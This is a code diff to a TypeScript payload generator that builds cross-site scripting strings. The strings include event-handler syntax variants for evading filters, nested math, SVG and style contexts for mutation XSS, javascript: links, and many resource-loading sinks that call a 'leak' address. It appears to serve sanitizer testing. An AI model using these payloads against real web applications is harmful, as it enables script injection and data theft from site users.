@@ -1,14 +1,5 @@
 import { ADDRESSES } from './payloadAddresses.ts';
-import {
-  Dice,
-  inQuotes,
-  leak,
-  mixedCase,
-  referred,
-  run,
-  type Part,
-  type Payload,
-} from './payloadParts.ts';
+import { Dice, inQuotes, leak, mixedCase, referred, run, type Part, type Payload } from './payloadParts.ts';
 
 const html = (name: string, text: Payload['text'], isOpen = false): Payload => ({
   name,
@@ -36,35 +27,37 @@ const EVENTS = (
 const SYNTAXES: readonly (readonly [
   name: string,
   write: (tag: string, event: string, script: string) => string,
-  isOpen?: boolean,
 ])[] = [
-  ['quotes', (tag, event, script) => `<${tag} src="x" on${event}="${script}">x`],
-  ['apostrophes', (tag, event, script) => `<${tag} src='x' on${event}='${script}'>x`],
-  ['bare', (tag, event, script) => `<${tag} src=x on${event}=${script}>x`],
-  ['slashes', (tag, event, script) => `<${tag}/src="x"/on${event}="${script}"/>x`],
-  ['joined', (tag, event, script) => `<${tag} src="x"on${event}="${script}">x`],
-  ['mixed-case', (tag, event, script) => `<${mixedCase(tag)} ${mixedCase(`on${event}`)}="${script}">x`],
-  ['newlines', (tag, event, script) => `<${tag}\nsrc\n=\nx\non${event}\n=\n"${script}"\n>x`],
-  ['tabs', (tag, event, script) => `<${tag}\tsrc=x\ton${event}\t=\t"${script}"\t>x`],
-  ['form-feeds', (tag, event, script) => `<${tag}\fsrc=x\fon${event}="${script}">x`],
-  ['referred', (tag, event, script) => `<${tag} src=x on${event}="${referred(script)}">x`],
-  ['twice', (tag, event, script) => `<${tag} on${event}="${script}" on${event}="" src=x>x`],
-  ['junk-before', (tag, event, script) => `<${tag} =">" '"="<" src=x on${event}="${script}">x`],
-  ['comment-after', (tag, event, script) => `<${tag} src=x on${event}=${script}//">x`],
-  ['two-brackets', (tag, event, script) => `<<${tag} src=x on${event}="${script}">x`],
-  ['closed', (tag, event, script) => `<${tag} src=x on${event}="${script}"></${tag}>`],
-  ['backticks', (tag, event, script) => `<${tag} src=x on${event}=\`\`;${script}>x`],
-  ['null', (tag, event, script) => `<${tag}\0 on\0${event}="${script}" on${event}="${script}">x`],
-  ['scheme', (tag, event, script) => `<${tag} src=x on${event}="javascript:${script}">x`],
-  ['unclosed', (tag, event, script) => `<${tag} src=x on${event}="${script}" `, true],
+  ['quotes', (tag, event, script) => `<${tag} src="x" on${event}="${script}">`],
+  ['apostrophes', (tag, event, script) => `<${tag} src='x' on${event}='${script}'>`],
+  ['bare', (tag, event, script) => `<${tag} src=x on${event}=${script}>`],
+  ['slashes', (tag, event, script) => `<${tag}/src="x"/on${event}="${script}"/>`],
+  ['joined', (tag, event, script) => `<${tag} src="x"on${event}="${script}">`],
+  ['mixed-case', (tag, event, script) => `<${mixedCase(tag)} ${mixedCase(`on${event}`)}="${script}">`],
+  ['newlines', (tag, event, script) => `<${tag}\nsrc\n=\nx\non${event}\n=\n"${script}"\n>`],
+  ['tabs', (tag, event, script) => `<${tag}\tsrc=x\ton${event}\t=\t"${script}"\t>`],
+  ['form-feeds', (tag, event, script) => `<${tag}\fsrc=x\fon${event}="${script}">`],
+  ['referred', (tag, event, script) => `<${tag} src=x on${event}="${referred(script)}">`],
+  ['twice', (tag, event, script) => `<${tag} on${event}="${script}" on${event}="" src=x>`],
+  [
+    'junk-before',
+    (tag, event, script) => `<${tag} title='>' alt="<!--" "'="'" src=x on${event}="${script}">`,
+  ],
+  ['comment-after', (tag, event, script) => `<${tag} src=x on${event}=${script}//">`],
+  ['two-brackets', (tag, event, script) => `<<${tag} src=x on${event}="${script}">`],
+  ['two-tags', (tag, event, script) => `<${tag} src=x on${event}="${script}" <b>`],
+  ['backticks', (tag, event, script) => `<${tag} src=x on${event}=\`\`;${script}>`],
+  ['null', (tag, event, script) => `<${tag}\0 on\0${event}="${script}" on${event}="${script}">`],
+  ['scheme', (tag, event, script) => `<${tag} src=x on${event}="javascript:${script}">`],
+  ['no-end', (tag, event, script) => `<${tag} src=x on${event}="${script}"\n`],
 ];
 
 function handlers(dice: Dice): Payload[] {
   let turn = 0;
   return TAGS.flatMap((tag) =>
     dice.some(EVENTS, 22).map((event) => {
-      const [syntax, write, isOpen] = SYNTAXES[turn++ % SYNTAXES.length]!;
-      return html(`handler ${tag} ${event} ${syntax}`, (mark) => write(tag, event, run(mark)), isOpen);
+      const [syntax, write] = SYNTAXES[turn++ % SYNTAXES.length]!;
+      return html(`handler ${tag} ${event} ${syntax}`, (mark) => `${write(tag, event, run(mark))}x</${tag}>`);
     }),
   );
 }
@@ -79,7 +72,10 @@ export const CORES: readonly Part[] = [
   ['document', (mark) => `<iframe srcdoc="&lt;script>${run(mark)}&lt;/script>"></iframe>`],
   ['link', (mark) => `<a href="javascript:${run(mark)}">x</a>`],
   ['form', (mark) => `<form action="javascript:${run(mark)}"><button>x</button></form>`],
-  ['animation', (mark) => `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=${run(mark)}>x</b>`],
+  [
+    'animation',
+    (mark) => `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=${run(mark)}>x</b>`,
+  ],
   ['remote-image', (mark) => `<img src="${leak(mark)}">`],
   ['remote-style', (mark) => `<style>@import "${leak(mark)}";</style>`],
   ['remote-sheet', (mark) => `<link rel="stylesheet" href="${leak(mark)}">`],
@@ -135,12 +131,28 @@ const CONTEXTS: readonly (readonly [name: string, before: string, after: string,
   ['svg-nested', '<svg><svg><svg>', '</svg></svg></svg>'],
   ['math', '<math>', '</math>'],
   ['math-text', '<math><mtext>', '</mtext></math>'],
-  ['math-style', '<math><mtext><table><mglyph><style><!--</style>', '--></style></mglyph></table></mtext></math>'],
-  ['math-glyph', '<math><mtext><table><mglyph><style><math title="</style>', '"></style></mglyph></table></mtext></math>'],
+  [
+    'math-style',
+    '<math><mtext><table><mglyph><style><!--</style>',
+    '--></style></mglyph></table></mtext></math>',
+  ],
+  [
+    'math-glyph',
+    '<math><mtext><table><mglyph><style><math title="</style>',
+    '"></style></mglyph></table></mtext></math>',
+  ],
   ['math-annotation', '<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
-  ['math-annotation-svg', '<math><annotation-xml encoding="application/xhtml+xml"><svg>', '</svg></annotation-xml></math>'],
+  [
+    'math-annotation-svg',
+    '<math><annotation-xml encoding="application/xhtml+xml"><svg>',
+    '</svg></annotation-xml></math>',
+  ],
   ['math-plain-annotation', '<math><annotation>', '</annotation></math>'],
-  ['math-form', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>', '"></style></mtext></svg></mglyph></form></mtext></math>'],
+  [
+    'math-form',
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>',
+    '"></style></mtext></svg></mglyph></form></mtext></math>',
+  ],
   ['math-svg', '<math><mi><svg><mi><style><!--</style>', '--></style></mi></svg></mi></math>'],
   ['quote', '">', ''],
   ['apostrophe', "'>", ''],
@@ -174,7 +186,10 @@ const SINKS: readonly (readonly [name: string, write: (address: string) => strin
   ['input-image', (address) => `<input type="image" src=${address}>`],
   ['iframe', (address) => `<iframe src=${address}></iframe>`],
   ['iframe-loose', (address) => `<iframe sandbox="allow-scripts allow-same-origin" src=${address}></iframe>`],
-  ['srcdoc', (address) => `<iframe srcdoc="<iframe src='${address.slice(1, -1).replaceAll("'", '&#39;')}'>"></iframe>`],
+  [
+    'srcdoc',
+    (address) => `<iframe srcdoc="<iframe src='${address.slice(1, -1).replaceAll("'", '&#39;')}'>"></iframe>`,
+  ],
   ['frame', (address) => `<frameset><frame src=${address}></frameset>`],
   ['embed', (address) => `<embed src=${address}>`],
   ['object', (address) => `<object data=${address}></object>`],
@@ -205,18 +220,36 @@ const SINKS: readonly (readonly [name: string, write: (address: string) => strin
   ['table', (address) => `<table background=${address}><tr><td background=${address}>x</table>`],
   ['cite', (address) => `<blockquote cite=${address}><q cite=${address}>x</q></blockquote>`],
   ['math', (address) => `<math href=${address} xlink:href=${address}><mi href=${address}>x</mi></math>`],
-  ['math-action', (address) => `<math><maction actiontype="statusline#${address.slice(1)}>x</maction></math>`],
+  [
+    'math-action',
+    (address) => `<math><maction actiontype="statusline#${address.slice(1)}>x</maction></math>`,
+  ],
   ['svg-a', (address) => `<svg><a xlink:href=${address}><text y="9">x</text></a></svg>`],
   ['svg-a-plain', (address) => `<svg><a href=${address}><text y="9">x</text></a></svg>`],
   ['svg-use', (address) => `<svg><use href=${address} xlink:href=${address}></use></svg>`],
   ['svg-image', (address) => `<svg><image href=${address} width="9" height="9"></image></svg>`],
-  ['svg-fe-image', (address) => `<svg><filter id="i"><feImage href=${address}/></filter><rect width="9" height="9" filter="url(#i)"/></svg>`],
+  [
+    'svg-fe-image',
+    (address) =>
+      `<svg><filter id="i"><feImage href=${address}/></filter><rect width="9" height="9" filter="url(#i)"/></svg>`,
+  ],
   ['svg-script', (address) => `<svg><script href=${address} xlink:href=${address}></script></svg>`],
-  ['svg-set', (address) => `<svg><a id="s"><set attributeName="href" to=${address}/><text y="9">x</text></a></svg>`],
-  ['svg-animate', (address) => `<svg><a><animate attributeName="href" values=${address} begin="0s"/><text y="9">x</text></a></svg>`],
+  [
+    'svg-set',
+    (address) => `<svg><a id="s"><set attributeName="href" to=${address}/><text y="9">x</text></a></svg>`,
+  ],
+  [
+    'svg-animate',
+    (address) =>
+      `<svg><a><animate attributeName="href" values=${address} begin="0s"/><text y="9">x</text></a></svg>`,
+  ],
   ['svg-fill', (address) => `<svg><rect width="9" height="9" fill="url(${address.slice(1, -1)})"/></svg>`],
   ['applet', (address) => `<applet code=${address} archive=${address}></applet>`],
-  ['dialog', (address) => `<dialog open><form method="dialog" action=${address}><button formaction=${address}>x</button></form></dialog>`],
+  [
+    'dialog',
+    (address) =>
+      `<dialog open><form method="dialog" action=${address}><button formaction=${address}>x</button></form></dialog>`,
+  ],
 ];
 
 /** Sinks whose every address is tried; the others take turns. */
